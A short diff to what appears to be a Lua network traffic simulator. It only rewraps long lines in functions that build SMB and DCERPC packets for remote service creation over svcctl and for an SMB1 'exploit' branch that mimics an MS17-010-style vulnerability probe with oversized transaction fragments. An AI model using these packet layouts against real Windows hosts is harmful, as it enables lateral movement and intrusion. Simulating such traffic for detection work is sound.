@@ -182,7 +182,8 @@ function windows.remote_service(w, client, server, about)
   link:close_file()
   link:connect_tree(("\\\\%s\\IPC$"):format(about.server))
   link:create("svcctl", 0x0012019f)
-  link:write(rpc(11, 1, pack("<I2I2I4BBBB", 4280, 4280, 0, 1, 0, 0, 0) .. pack("<I2BB", 0, 1, 0) .. guid(SCMR) .. pack("<I2I2", 2, 0) .. NDR))
+  link:write(rpc(11, 1, pack("<I2I2I4BBBB", 4280, 4280, 0, 1, 0, 0, 0) .. pack("<I2BB", 0, 1, 0) .. guid(SCMR) .. pack("<I2I2", 2, 0)
+    .. NDR))
   local function call(number, opnum, stub) link:write(rpc(0, number, pack("<I4I2I2", #stub, 0, opnum) .. stub)) end
   call(2, 15, pack("<I4", 0x20000) .. dcerpc.string("\\\\" .. about.server) .. pack("<I4I4", 0, 0xf003f)) -- OpenSCManagerW
   call(3, 12, ("\1"):rep(20) .. dcerpc.string(about.service) .. dcerpc.pointer(about.service)
@@ -225,7 +226,8 @@ function windows.smb1_session(w, client, server, exploit)
     smb1(0x75, 0, true, pack("<BBBI2I2I2", 3, 255, 0, 0, 1, 7) .. "IPC\0\0\0\0", 2048, 2048))
   if exploit then
     -- PeekNamedPipe on no file: who lacks the patch answers STATUS_INSUFF_SERVER_RESOURCES
-    local peek = pack("<BI2I2I2I2BBI2I4I2I2I2I2I2BBI2I2I2", 16, 0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 74, 0, 74, 2, 0, 0x23, 0, 7) .. "\\PIPE\\\0"
+    local peek = pack("<BI2I2I2I2BBI2I4I2I2I2I2I2BBI2I2I2", 16, 0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 74, 0, 74, 2, 0, 0x23, 0, 7)
+      .. "\\PIPE\\\0"
     ask(smb1(0x25, 0, false, peek, 2048, 2048), smb1(0x25, 0xc0000205, true, "\0\0\0", 2048, 2048))
     for _ = 1, 8 do -- NT_TRANSACT of a size no file list has, in TRANSACTION2_SECONDARY parts
       local data = rng:bytes(1200)
